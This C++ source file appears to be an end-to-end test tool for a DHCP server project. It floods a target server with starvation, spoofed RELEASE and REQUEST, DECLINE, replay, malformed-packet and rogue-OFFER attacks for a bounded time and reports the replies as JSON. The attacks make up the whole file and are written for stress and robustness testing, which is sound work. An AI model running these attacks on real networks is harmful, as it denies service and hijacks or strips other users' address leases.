// Attacks on a DHCP server, at a given rate or as fast as the link takes them, for a bounded time.
//
// flood ATTACK INTERFACE SERVER-MAC SERVER SECONDS [NAME=VALUE ...]
//
// ATTACK: discover, lease (and a REQUEST for each OFFER), decline (and a DECLINE for each ACK),
//   release, request (for the victims' addresses), replay (what was heard on the link first),
//   malformed, offer (forged, to port 68)
// rate=N            messages a second; else line rate
// giaddr=ADDRESS    as a relay with this address, or one of a prefix, drawn for each message
// circuit=TEXT      option 82 with this circuit-id; "random": a new one each time
// victims=FIRST-LAST whose addresses release and request are about
// macs=NUMBER       the victims' MACs are those of honest's PREFIX with this number
//
// What was sent and what came back goes to standard output as JSON.

#include "base/random.h"
#include "base/text.h"
#include "frames.h"

#include <algorithm>
#include <chrono>
#include <csignal>
#include <vector>

namespace lessor::e2e {
namespace {

using Clock = std::chrono::steady_clock;

constexpr std::size_t kBatch = 64;
constexpr std::uint64_t kMostSeconds = 120;
constexpr std::size_t kMostHeard = 256;
constexpr auto kListening = std::chrono::milliseconds(1'000);

volatile std::sig_atomic_t stopping = 0;

struct Orders {
  std::string attack;
  Mac server_mac;
  Ip4 server;
  std::uint64_t seconds = 0;
  std::uint64_t rate = 0;
  net::Prefix4 giaddr;
  bool relayed = false;
  std::string circuit;
  net::Range4 victims;
  std::uint32_t victim_macs = 0;
};

struct Figures {
  std::uint64_t sent = 0;
  std::array<std::uint64_t, 16> received{};
};

using Frame = std::vector<std::byte>;

/// Makes the frames of an attack, one at a time.
class Forge {
 public:
  explicit Forge(const Orders& orders) : orders_(orders) {}

  [[nodiscard]] Bytes next(MutableBytes room) {
    if (orders_.attack == "release") return release(room);
    if (orders_.attack == "request") return request(room);
    if (orders_.attack == "malformed") return malformed(room);
    if (orders_.attack == "offer") return offer(room);
    if (orders_.attack == "replay" && !heard_.empty()) return replay(room);
    return frame(stranger(kDiscover), room);
  }

  /// The answer to an OFFER or ACK, if the attack gives one.
  [[nodiscard]] Bytes answer(const Message& reply, MutableBytes room) {
    const bool accept = reply.type == kOffer && orders_.attack != "discover";
    const bool decline = reply.type == kAck && orders_.attack == "decline";
    if (!accept && !decline) return {};
    Message message = stranger(accept ? kRequest : kDecline);
    message.xid = reply.xid;
    message.mac = reply.mac;
    message.requested = reply.yiaddr;
    message.server = reply.server;
    return frame(message, room);
  }

  void hear(Bytes frame) {
    if (heard_.size() < kMostHeard) heard_.emplace_back(frame.begin(), frame.end());
  }

 private:
  Message stranger(MessageType type) {
    Message message{.type = type, .xid = random_.u32(), .mac = mac_of(kHostile, random_.u32())};
    if (orders_.relayed) {
      const std::uint32_t host = random_.u32() & ~orders_.giaddr.mask();
      message.giaddr = Ip4{orders_.giaddr.address.value | host};
    }
    if (orders_.circuit == "random") {
      circuit_ = "port-" + std::to_string(random_.u32());
      message.circuit = circuit_;
    } else {
      message.circuit = orders_.circuit;
    }
    return message;
  }

  Ip4 victim(std::uint32_t index) const { return Ip4{orders_.victims.first.value + index}; }
  std::uint32_t draw_victim() {
    return random_.below(static_cast<std::uint32_t>(orders_.victims.size()));
  }

  /// RELEASEs that are not the holder's: another MAC, another server's, another sender's, another
  /// client identifier's place (a relay's).
  Bytes release(MutableBytes room) {
    const std::uint32_t index = draw_victim();
    Message message = stranger(kRelease);
    message.ciaddr = victim(index);
    message.server = orders_.server;
    Ip4 from = message.ciaddr;
    const std::uint32_t variant = random_.below(4);
    if (variant != 0) message.mac = mac_of(kHonest, orders_.victim_macs << 16 | index);
    if (variant == 1) message.server = Ip4{orders_.server.value ^ 7U};
    if (variant == 2) from = Ip4{message.ciaddr.value ^ 1U};
    if (variant == 3) message.ciaddr = Ip4{message.ciaddr.value ^ 1U};
    if (variant == 3) from = message.ciaddr;
    return frame(message, room, from);
  }

  /// In INIT-REBOOT, RENEWING, REBINDING and SELECTING, for what others hold.
  Bytes request(MutableBytes room) {
    const std::uint32_t index = draw_victim();
    Message message = stranger(kRequest);
    const std::uint32_t variant = random_.below(4);
    const bool has_address = variant == 1 || variant == 2;
    (has_address ? message.ciaddr : message.requested) = victim(index);
    if (variant == 3) message.server = orders_.server;
    unicast_ = variant == 1;
    return frame(message, room, message.ciaddr);
  }

  Bytes offer(MutableBytes room) {
    Message message = stranger(kOffer);
    message.op = 2;
    message.yiaddr = Ip4{0x0a010000 | random_.below(0xffff)};
    message.server = Ip4{0x0a010000 | random_.below(0xffff)};
    const std::size_t size = write_message(message, room.subspan(net::kFrameHeaders));
    return net::write_udp_frame(room, net::kFrameHeaders, size,
                                {.source_mac = message.mac,
                                 .destination_mac = net::kMacBroadcast,
                                 .source = message.server,
                                 .destination = net::kIp4Broadcast,
                                 .source_port = 67,
                                 .destination_port = 68});
  }

  /// What was heard, as it was, or as the server's own answer (op 2, type ACK) to either port.
  Bytes replay(MutableBytes room) {
    const Frame& heard = heard_[random_.below(static_cast<std::uint32_t>(heard_.size()))];
    copy_bytes(room, heard);
    const MutableBytes frame = room.first(heard.size());
    copy_bytes(frame.subspan(6), mac_of(kHostile, 0).octets);
    if (random_.one_in(4)) {
      store_u8(&frame[net::kFrameHeaders], 2);
      if (frame.size() > net::kFrameHeaders + kOptionsAt + 2) {
        store_u8(&frame[net::kFrameHeaders + kOptionsAt + 2], kAck);
      }
      if (random_.one_in(2)) store_be16(&frame[36], 68);
      store_be16(&frame[40], 0);  // no UDP checksum
    }
    return frame;
  }

  /// Mostly broken where options are: whatever stands before them is all valid values. What a relay
  /// says of itself (giaddr, option 82) it says right.
  Bytes malformed(MutableBytes room) {
    Message message = stranger(static_cast<MessageType>(1 + random_.below(8)));
    message.requested = Ip4{orders_.server.value + random_.below(200)};
    if (random_.one_in(2)) message.server = orders_.server;
    if (random_.one_in(3)) message.ciaddr = message.requested;
    const MutableBytes body = room.subspan(net::kFrameHeaders);
    const std::size_t written = write_message(message, body);
    const std::string relays = circuit_option(message.circuit);
    copy_bytes(body.subspan(kOptionsAt), lessor::as_bytes(relays));
    const std::size_t broken_from = kOptionsAt + relays.size();
    std::size_t size = std::max(written, broken_from + write_options(body.subspan(broken_from)));
    for (std::uint32_t left = 1 + random_.below(8); left > 0; --left) {
      const std::size_t from = random_.one_in(4) ? 0 : broken_from;
      const std::size_t at = from + random_.below(static_cast<std::uint32_t>(size - from));
      const bool is_relays = (at >= 24 && at < 28) || (at >= kOptionsAt && at < broken_from);
      if (!is_relays) store_u8(&body[at], static_cast<std::uint8_t>(random_.u32()));
    }
    if (random_.one_in(4)) size = random_.below(static_cast<std::uint32_t>(size));
    const MutableBytes made = net::write_udp_frame(room, net::kFrameHeaders, size, ends(message));
    if (random_.one_in(8)) {
      store_u8(&made[random_.below(static_cast<std::uint32_t>(made.size()))],
               static_cast<std::uint8_t>(random_.u32()));
    }
    return made;
  }

  /// The options of real clients, and those that carry other options.
  static std::size_t write_options(MutableBytes room) {
    static constexpr char kOptions[] =
        "\x35\x01\x01\x3d\x07\x01\x02\xbb\x00\x00\x00\x01\x37\x0d\x01\x1c\x02\x03\x0f\x06\x77\x0c"
        "\x2c\x2f\x1a\x79\x2a\x0c\x04host\x51\x07\x00\x00\x00name\x39\x02\x05\xdc\x3c\x08MSFT 5.0"
        "\x2b\x0c\x01\x04port\x02\x04here\x34\x01\x03\x7c\x09\x00\x00\x01\x37\x04\x01\x02xy\xff";
    copy_bytes(room, lessor::as_bytes({kOptions, sizeof kOptions - 1}));
    return sizeof kOptions - 1;
  }

  net::UdpEndpoints ends(const Message& message, Ip4 from = {}) {
    const bool direct = !orders_.relayed && !unicast_ && message.type != kRelease;
    // Nobody speaks with another's source MAC here: switches would send him what is that one's.
    const bool own = orders_.relayed || message.mac.octets[1] != std::byte{kHostile & 0xff};
    return {.source_mac = own ? mac_of(kHostile, 0) : message.mac,
            .destination_mac = direct ? net::kMacBroadcast : orders_.server_mac,
            .source = orders_.relayed ? message.giaddr : from,
            .destination = direct ? net::kIp4Broadcast : orders_.server,
            .source_port = static_cast<std::uint16_t>(orders_.relayed ? 67 : 68),
            .destination_port = 67};
  }

  Bytes frame(const Message& message, MutableBytes room, Ip4 from = {}) {
    const std::size_t size = write_message(message, room.subspan(net::kFrameHeaders));
    return net::write_udp_frame(room, net::kFrameHeaders, size, ends(message, from));
  }

  const Orders& orders_;
  Random random_{static_cast<std::uint64_t>(Clock::now().time_since_epoch().count())};
  std::string circuit_;
  bool unicast_ = false;
  std::vector<Frame> heard_;
};

class Flood {
 public:
  Flood(const Orders& orders, int fd) : orders_(orders), fd_(fd), forge_(orders) {
    for (std::size_t i = 0; i < kBatch; ++i) {
      vectors_[i] = {.iov_base = rooms_[i].data(), .iov_len = 0};
      headers_[i].msg_hdr.msg_iov = &vectors_[i];
      headers_[i].msg_hdr.msg_iovlen = 1;
    }
  }

  void run() {
    if (orders_.attack == "replay") listen();
    const bool talks = orders_.attack == "lease" || orders_.attack == "decline";
    if (!talks) hear_only(fd_, kChaddrInFrame, 0xffff);  // nobody's
    if (talks) hear_only(fd_, kChaddrInFrame, kHostile);
    const auto start = Clock::now();
    const auto end = start + std::chrono::seconds(orders_.seconds);
    for (auto now = start; now < end && stopping == 0; now = Clock::now()) {
      const double elapsed = std::chrono::duration<double>(now - start).count();
      const auto due = static_cast<std::uint64_t>(elapsed * static_cast<double>(orders_.rate));
      const bool may = orders_.rate == 0 || started_ < due;
      if (may) started_ += kBatch;
      while (may && count_ < kBatch) queue(forge_.next(rooms_[count_]));
      flush();
      if (talks) receive();
    }
  }

  void print() const {
    const auto& r = figures_.received;
    std::printf("{\"sent\": %lu, \"offers\": %lu, \"acks\": %lu, \"naks\": %lu}\n", figures_.sent,
                r[kOffer], r[kAck], r[kNak]);
  }

 private:
  /// What clients on this link say: requests, as far as they are broadcast.
  void listen() {
    hear_only(fd_, kChaddrInFrame, kHonest);
    const auto end = Clock::now() + kListening;
    std::array<std::byte, 2'048> frame;
    while (Clock::now() < end && stopping == 0) {
      const ssize_t size = recv(fd_, frame.data(), frame.size(), MSG_DONTWAIT);
      if (size > 0) forge_.hear(Bytes(frame).first(static_cast<std::size_t>(size)));
    }
  }

  void queue(Bytes frame) {
    if (!frame.empty()) vectors_[count_++].iov_len = frame.size();
  }

  void flush() {
    if (count_ == 0) return;
    const int sent = sendmmsg(fd_, headers_.data(), static_cast<unsigned>(count_), 0);
    if (sent > 0) figures_.sent += static_cast<std::uint64_t>(sent);
    count_ = 0;
  }

  void receive() {
    std::array<std::byte, 2'048> packet;
    for (std::size_t i = 0; i < 4 * kBatch; ++i) {
      const ssize_t size = recv(fd_, packet.data(), packet.size(), MSG_DONTWAIT);
      if (size <= static_cast<ssize_t>(net::kFrameHeaders)) break;
      Message reply;
      const Bytes got = Bytes(packet).first(static_cast<std::size_t>(size));
      if (!read_reply(got.subspan(net::kFrameHeaders), reply)) continue;
      ++figures_.received[reply.type % figures_.received.size()];
      queue(forge_.answer(reply, rooms_[count_]));
      if (count_ == kBatch) flush();
    }
    flush();
  }

  const Orders& orders_;
  int fd_;
  Forge forge_;
  Figures figures_;
  std::uint64_t started_ = 0;
  std::size_t count_ = 0;
  std::array<std::array<std::byte, kFrameRoom>, kBatch> rooms_{};
  std::array<iovec, kBatch> vectors_{};
  std::array<mmsghdr, kBatch> headers_{};
};

bool read_word(std::string_view word, Orders& orders) {
  const std::size_t equals = word.find('=');
  if (equals == std::string_view::npos) return false;
  const std::string_view name = word.substr(0, equals);
  const std::string_view value = word.substr(equals + 1);
  if (name == "circuit") return orders.circuit = value, true;
  if (name == "rate") return orders.rate = parse_number(value).value_or(0), orders.rate > 0;
  if (name == "macs") {
    return orders.victim_macs = static_cast<std::uint32_t>(parse_number(value).value_or(0)), true;
  }
  if (name == "giaddr") {
    const auto one = net::parse_ip4(value);
    const auto prefix =
        one ? net::Prefix4{*one, 32} : net::parse_prefix4(value).value_or(net::Prefix4{});
    orders.relayed = true;
    return orders.giaddr = prefix, prefix.length > 0;
  }
  const auto range = name == "victims" ? net::parse_range4(value) : std::nullopt;
  if (range) orders.victims = *range;
  return range.has_value();
}

int run(int argc, char** argv) {
  if (argc < 6) return std::fprintf(stderr, "flood: see the head of flood.cc\n"), 2;
  Orders orders{.attack = argv[1],
                .server_mac = mac_argument(argv[3]),
                .server = address_argument(argv[4]),
                .seconds = parse_number(argv[5], kMostSeconds).value_or(0)};
  for (int i = 6; i < argc; ++i) {
    if (read_word(argv[i], orders)) continue;
    return std::fprintf(stderr, "flood: what is %s?\n", argv[i]), 2;
  }
  std::signal(SIGTERM, [](int) { stopping = 1; });
  Flood flood(orders, open_link(argv[2]));
  flood.run();
  flood.print();
  return 0;
}

}  // namespace
}  // namespace lessor::e2e

int main(int argc, char** argv) { return lessor::e2e::run(argc, argv); }
